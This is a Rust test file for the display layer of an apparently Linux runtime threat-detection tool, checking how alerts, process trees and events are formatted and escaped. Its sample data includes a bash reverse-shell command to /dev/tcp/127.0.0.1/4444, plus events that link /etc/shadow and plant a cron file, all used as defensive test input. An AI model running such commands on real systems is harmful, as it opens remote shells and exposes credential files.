//! What a person sees, to the letter.

use super::*;
use crate::{
    events::Outcome,
    finding::Level,
    sink::{Body, sample},
    text::Text,
};
use std::sync::Arc;

fn shown(item: &Item, style: Style) -> String {
    let mut out = String::new();
    write(item, &mut out, style);
    out
}

fn finding(event: crate::events::Event) -> Item {
    Item { sequence: 1, body: Body::Finding(Arc::new(sample::finding(event, Level::High))) }
}

#[test]
fn a_finding_tells_the_whole_story() {
    let expected = "\
2026-11-21 00:12:33.123 UTC  HIGH  Potential Linux Reverse Shell
  ATT&CK    T1059.004, T1071 · Execution, Command and Control
  author    @d4ns4n_ (Wuerth-Phoenix), Florian Roth
  user      alice (uid 1000), logged in as the same
  action    failed to connect to 127.0.0.1:4444 (tcp): Connection refused
  process   /sbin/init [1]
            └─ sshd: alice [priv] [812]
              └─ -bash [4240]
                └─ bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' [4242]
  program   /usr/bin/bash, in /home/alice
  matched   process.command_line = bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
  score     68.5 points of this process tree (from sshd [812] on)
            +50 Potential Linux Reverse Shell (high)
            +20 Decode Base64 Encoded Text (medium, 3 s earlier)
            and 2 earlier ones

";
    assert_eq!(shown(&sample::items()[15], Style { color: false, width: 100 }), expected);
}

#[test]
fn colours_are_only_where_they_are_wanted() {
    let item = &sample::items()[15];
    assert!(!shown(item, Style::PLAIN).contains('\x1b'));
    assert!(shown(item, Style { color: true, width: 100 }).contains("\x1b[1;31m HIGH \x1b[0m"));
    let file = tempfile::tempfile().unwrap();
    assert_eq!(Style::detect(&file), Style::PLAIN);
}

#[test]
fn every_event_is_one_line_without_control_characters() {
    let lines: Vec<String> =
        sample::items().iter().filter(|i| !matches!(i.body, Body::Finding(_))).map(|i| shown(i, Style::PLAIN)).collect();
    for line in &lines {
        assert!(line.ends_with('\n') && line.trim_end().chars().all(|c| !c.is_control()), "{line:?}");
    }
    assert_eq!(
        lines.concat(),
        "\
00:12:33.123 exec     bash[4242] alice               executed /usr/bin/bash: bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
00:12:33.123 fork     bash[4242] alice               forked process 4300
00:12:33.123 exit     bash[4242] alice               exited with code 3
00:12:33.123 connect  bash[4242] alice               failed to connect to 127.0.0.1:4444 (tcp): Connection refused
00:12:33.123 accept   bash[4242] alice               accepted a connection from [2001:db8::7]:40000 on [::1]:53 (udp)
00:12:33.123 bind     bash[4242] alice               took the address the UNIX socket /run/x.sock
00:12:33.123 listen   bash[4242] alice               listens on the UNIX socket /run/x.sock
00:12:33.123 open     bash[4242] alice               created /etc/cron.d/\\u{1b}[31mevil\\xff
00:12:33.123 unlink   bash[4242] alice               removed /tmp/a\\nb (path incomplete)
00:12:33.123 rename   bash[4242] alice               renamed /tmp/old to /tmp/new
00:12:33.123 chmod    bash[4242] alice               set the mode of /tmp/x to 4755
00:12:33.123 chown    bash[4242] alice               failed to give /tmp/x to user 0: Operation not permitted
00:12:33.123 link     bash[4242] alice               linked /etc/shadow as /tmp/l
00:12:33.123 symlink  bash[4242] alice               made the symbolic link /tmp/s to /etc/passwd (result unknown)
00:12:33.123 lost 17 open events before this point: ring_full
00:12:33.123 cgroup   bash[4242] alice               made the cgroup /kubepods/\\u{1b}[31mevil of container 4f2c8a1e9b7d6c5a4f2c8a1e9b7d6c5a4f2… (29 more bytes)
lost 3 items here (sequence 19 to 21): this reader is too slow
"
    );
}

#[test]
fn a_long_command_line_is_cut_and_says_so() {
    let mut process = sample::shell();
    let padding = b" \x1b]0;owned\x07".repeat(2000);
    process.image = Some(Arc::new(sample::image("/usr/bin/bash", &[b"bash", b"-c", &padding])));
    let image = process.image.clone().unwrap();
    let event = sample::event(process, crate::events::Body::Exec { outcome: Outcome::Success(0), image });
    let text = shown(&finding(event), Style { color: false, width: 80 });
    assert!(text.lines().all(|l| l.chars().count() <= 80 * 4), "{text}");
    assert!(text.lines().count() < 30 && text.contains(" more bytes)"), "{text}");
    assert!(text.chars().all(|c| c == '\n' || !c.is_control()), "{text:?}");
}

#[test]
fn arguments_are_shown_as_they_would_be_typed() {
    let line = |args: &[&[u8]]| style::command(&sample::image("/x", args));
    assert_eq!(line(&[b"sh", b"-c", b"echo it's", b"", b"a=b"]), "sh -c 'echo it'\\''s' '' a=b");
    assert_eq!(line(&[b"sshd: alice [priv]"]), "sshd: alice [priv]");
    assert_eq!(line(&[b"cat", b"a\nb\xff"]), "cat 'a\\nb\\xff'");
    assert_eq!(Text::from("é").to_string(), "é");
}

#[test]
fn a_long_line_of_ancestors_shows_both_ends() {
    let mut found = sample::finding(sample::event(sample::shell(), crate::events::Body::Exit { code: Some(0), signal: None }), Level::High);
    let parent = |n: u32| {
        let mut process = sample::shell();
        process.id.tgid = n;
        process.image = Some(Arc::new(sample::image("/x", &[b"x"])));
        Arc::new(process)
    };
    let chain = |found: &crate::finding::Finding| {
        let text = shown(&Item { sequence: 1, body: Body::Finding(Arc::new(found.clone())) }, Style { color: false, width: 80 });
        text.lines()
            .filter(|l| l.contains("\u{2514}\u{2500} x [") || l.contains("x [1]") || l.ends_with(" more"))
            .map(|l| l.trim().to_owned())
            .collect::<Vec<_>>()
    };
    found.ancestors = (1..=9).rev().map(parent).collect();
    assert_eq!(chain(&found).len(), 9);
    found.ancestors = (1..=30).rev().map(parent).collect();
    let (first, last) =
        (["process   x [1]", "└─ x [2]", "… 22 more"], ["└─ x [25]", "└─ x [26]", "└─ x [27]", "└─ x [28]", "└─ x [29]", "└─ x [30]"]);
    assert_eq!(chain(&found), [&first[..], &last].concat());
}
